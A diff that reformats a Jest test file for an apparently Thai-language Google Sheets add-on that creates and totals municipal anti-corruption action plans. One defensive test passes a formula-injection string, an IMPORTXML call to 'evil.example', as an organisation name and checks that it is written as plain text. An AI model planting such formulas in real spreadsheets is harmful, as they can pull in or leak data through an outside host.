@@ -19,7 +19,16 @@ describe('createPlanSheet', () => {
     expect(values[3][9]).toBe('ดำเนินการไตรมาส ปี ๒๕๖๘');
     expect(values[4].slice(9, 13)).toEqual(['ไตรมาส ๑', 'ไตรมาส ๒', 'ไตรมาส ๓', 'ไตรมาส ๔']);
     const check = a.call<CheckResult>('checkPlan');
-    expect(check).toEqual(expect.objectContaining({ sheetName: 'แผนปฏิบัติการ', layout: 'five-year', years: [2566, 2567, 2568, 2569, 2570], projects: 0, errors: 0, warnings: 0 }));
+    expect(check).toEqual(
+      expect.objectContaining({
+        sheetName: 'แผนปฏิบัติการ',
+        layout: 'five-year',
+        years: [2566, 2567, 2568, 2569, 2570],
+        projects: 0,
+        errors: 0,
+        warnings: 0,
+      }),
+    );
   });
 
   test('validation, checkboxes, formats, frozen and protected header, hidden id column', () => {
@@ -54,7 +63,14 @@ describe('createPlanSheet', () => {
     expect(sheet._protections[0].isWarningOnly()).toBe(true);
     expect(sheet._protections[0].getRange().getA1Notation()).toBe('A4:P5');
     expect(sheet._hidden.has(16)).toBe(true);
-    expect(sheet._rules.map((r) => r.getRanges().map((x) => x.getA1Notation()).join(','))).toEqual(['B6:B45', 'E6:I45', 'J6:M45', 'D6:D45', 'N6:O45']);
+    expect(
+      sheet._rules.map((r) =>
+        r
+          .getRanges()
+          .map((x) => x.getA1Notation())
+          .join(','),
+      ),
+    ).toEqual(['B6:B45', 'E6:I45', 'J6:M45', 'D6:D45', 'N6:O45']);
     const catalogue = a.spreadsheet._sheetByName('รายการภารกิจ')!._dump();
     expect(catalogue[0]).toEqual(['มิติ', 'เลขที่', 'ภารกิจตามมิติ']);
     expect(catalogue).toHaveLength(9);
@@ -67,8 +83,16 @@ describe('createPlanSheet', () => {
     expect(a.log.counts.get('Lock.tryLock')).toBe(1);
     expect(a.log.counts.get('Lock.releaseLock')).toBe(1);
     const settings = JSON.parse(a.documentProperties.getProperty('saisaat.settings')!);
-    expect(settings).toEqual(expect.objectContaining({ organisation: { name: 'เทศบาลตำบลบึงเค็งตา', type: 'เทศบาลตำบล' }, planKind: 'five-year', fiscalYears: { from: 2566, to: 2570 } }));
-    expect(a.documentProperties.getProperty('saisaat.planSheetId')).toBe(String(a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._id));
+    expect(settings).toEqual(
+      expect.objectContaining({
+        organisation: { name: 'เทศบาลตำบลบึงเค็งตา', type: 'เทศบาลตำบล' },
+        planKind: 'five-year',
+        fiscalYears: { from: 2566, to: 2570 },
+      }),
+    );
+    expect(a.documentProperties.getProperty('saisaat.planSheetId')).toBe(
+      String(a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._id),
+    );
   });
 
   test('never touches an existing sheet: a second plan gets a free name', () => {
@@ -91,7 +115,11 @@ describe('createPlanSheet', () => {
 
   test('user text that looks like a formula is written as text', () => {
     const a = loadAddon();
-    a.call('createPlanSheet', { ...CREATE_REQUEST, organisationName: '=IMPORTXML("http://evil.example","//a")', organisationType: '' });
+    a.call('createPlanSheet', {
+      ...CREATE_REQUEST,
+      organisationName: '=IMPORTXML("http://evil.example","//a")',
+      organisationType: '',
+    });
     const cell = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._cell(2, 1);
     expect(cell.formula).toBe('');
     expect(cell.value).toBe('=IMPORTXML("http://evil.example","//a")');
@@ -100,7 +128,9 @@ describe('createPlanSheet', () => {
   test('bad requests get a Thai message, and nothing is created', () => {
     const a = loadAddon();
     expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 'สองพัน' })).toThrow(/ข้อมูลไม่ครบหรือไม่ถูกต้อง/);
-    expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 2570, toYear: 2566 })).toThrow(/ปีสิ้นสุดต้องไม่น้อยกว่าปีเริ่มต้น/);
+    expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 2570, toYear: 2566 })).toThrow(
+      /ปีสิ้นสุดต้องไม่น้อยกว่าปีเริ่มต้น/,
+    );
     expect(() => a.call('createPlanSheet', { ...CREATE_REQUEST, quarterYear: 2575 })).toThrow(/ปีของไตรมาส/);
     expect(a.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1']);
   });
@@ -120,10 +150,74 @@ describe('a created plan, filled in by staff', () => {
     const sheet = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!;
     // Typed rows, dimensions in every way staff write them.
     const rows = [
-      [1, 'มิติที่ ๑ การสร้างวัฒนธรรมสุจริต', 'การเสริมสร้างจิตสำนึกและความตระหนักแก่บุคลากรทั้งข้าราชการการเมืองฝ่ายบริหาร ข้าราชการการเมืองฝ่ายสภาท้องถิ่นและฝ่ายประจำขององค์กรปกครองส่วนท้องถิ่น', 'กิจกรรมการมอบประกาศเกียรติคุณแก่คณะกรรมการชุมชน', 10000, 10000, 10000, 10000, 10000, true, false, false, true, 'สำนักปลัดเทศบาล', ''],
-      [2, '1', '', 'โครงการพัฒนาความรู้ด้านกฎหมายและระเบียบที่เกี่ยวข้องกับการปฏิบัติงาน', 45000, 45000, 50000, 50000, 50000, false, true, false, false, 'สำนักปลัดเทศบาล', ''],
-      [3, 'มิติที่ ๓ การส่งเสริมบทบาทและการมีส่วนร่วมของภาคประชาชน', '', 'โครงการจัดเวทีประชาคม', 8500, 8500, 8500, 8500, 8500, false, true, true, false, 'สำนักปลัดเทศบาล', ''],
-      [4, '*4', '', 'มาตรการจัดให้มีระบบและช่องทางการรับเรื่องร้องเรียนเกี่ยวกับการทุจริต', '-', '-', 'ไม่ใช้งบประมาณ', 5000, 5000, true, true, true, true, 'สำนักปลัดเทศบาล', ''],
+      [
+        1,
+        'มิติที่ ๑ การสร้างวัฒนธรรมสุจริต',
+        'การเสริมสร้างจิตสำนึกและความตระหนักแก่บุคลากรทั้งข้าราชการการเมืองฝ่ายบริหาร ข้าราชการการเมืองฝ่ายสภาท้องถิ่นและฝ่ายประจำขององค์กรปกครองส่วนท้องถิ่น',
+        'กิจกรรมการมอบประกาศเกียรติคุณแก่คณะกรรมการชุมชน',
+        10000,
+        10000,
+        10000,
+        10000,
+        10000,
+        true,
+        false,
+        false,
+        true,
+        'สำนักปลัดเทศบาล',
+        '',
+      ],
+      [
+        2,
+        '1',
+        '',
+        'โครงการพัฒนาความรู้ด้านกฎหมายและระเบียบที่เกี่ยวข้องกับการปฏิบัติงาน',
+        45000,
+        45000,
+        50000,
+        50000,
+        50000,
+        false,
+        true,
+        false,
+        false,
+        'สำนักปลัดเทศบาล',
+        '',
+      ],
+      [
+        3,
+        'มิติที่ ๓ การส่งเสริมบทบาทและการมีส่วนร่วมของภาคประชาชน',
+        '',
+        'โครงการจัดเวทีประชาคม',
+        8500,
+        8500,
+        8500,
+        8500,
+        8500,
+        false,
+        true,
+        true,
+        false,
+        'สำนักปลัดเทศบาล',
+        '',
+      ],
+      [
+        4,
+        '*4',
+        '',
+        'มาตรการจัดให้มีระบบและช่องทางการรับเรื่องร้องเรียนเกี่ยวกับการทุจริต',
+        '-',
+        '-',
+        'ไม่ใช้งบประมาณ',
+        5000,
+        5000,
+        true,
+        true,
+        true,
+        true,
+        'สำนักปลัดเทศบาล',
+        '',
+      ],
     ];
     sheet.getRange(6, 1, rows.length, rows[0].length).setValues(rows);
     return { a, sheet };
@@ -142,17 +236,30 @@ describe('a created plan, filled in by staff', () => {
     expect(values[4].slice(5, 9)).toEqual([2, 3, 2, 2]);
     const check = a.call<CheckResult>('checkPlan');
     expect(check.projects).toBe(4);
-    expect(check.findings.filter((f) => f.code === 'SUBTOTAL_MISMATCH' || f.code === 'GRAND_TOTAL_MISMATCH')).toEqual([]);
+    expect(check.findings.filter((f) => f.code === 'SUBTOTAL_MISMATCH' || f.code === 'GRAND_TOTAL_MISMATCH')).toEqual(
+      [],
+    );
   });
 
   test('สรุปยอด fills the สรุป sheet and its chart; running it again duplicates nothing', () => {
     const { a } = filled();
     const first = a.call<TotalsResult>('updateTotals');
-    expect(first).toEqual(expect.objectContaining({ sheetName: 'แผนปฏิบัติการ', summarySheet: 'สรุป', rowsInserted: 0, chart: 'created' }));
+    expect(first).toEqual(
+      expect.objectContaining({ sheetName: 'แผนปฏิบัติการ', summarySheet: 'สรุป', rowsInserted: 0, chart: 'created' }),
+    );
     expect(first.byYear).toEqual({ 2566: 63500, 2567: 63500, 2568: 68500, 2569: 73500, 2570: 73500 });
     expect(first.quarters).toEqual([2, 3, 2, 2]);
     const summary = a.spreadsheet._sheetByName('สรุป')!;
-    expect(summary.getRange(4, 1, 1, 8).getValues()[0]).toEqual(['มิติ', 'ปี ๒๕๖๖', 'ปี ๒๕๖๗', 'ปี ๒๕๖๘', 'ปี ๒๕๖๙', 'ปี ๒๕๗๐', 'รวม (บาท)', 'จำนวนโครงการ']);
+    expect(summary.getRange(4, 1, 1, 8).getValues()[0]).toEqual([
+      'มิติ',
+      'ปี ๒๕๖๖',
+      'ปี ๒๕๖๗',
+      'ปี ๒๕๖๘',
+      'ปี ๒๕๖๙',
+      'ปี ๒๕๗๐',
+      'รวม (บาท)',
+      'จำนวนโครงการ',
+    ]);
     const table = summary.getRange(5, 1, 5, 8).getValues();
     expect(table[0]).toEqual(['มิติที่ ๑ การสร้างวัฒนธรรมสุจริต', 55000, 55000, 60000, 60000, 60000, 290000, 2]);
     expect(table[4]).toEqual(['รวมทั้งสิ้น', 63500, 63500, 68500, 73500, 73500, 342500, 4]);
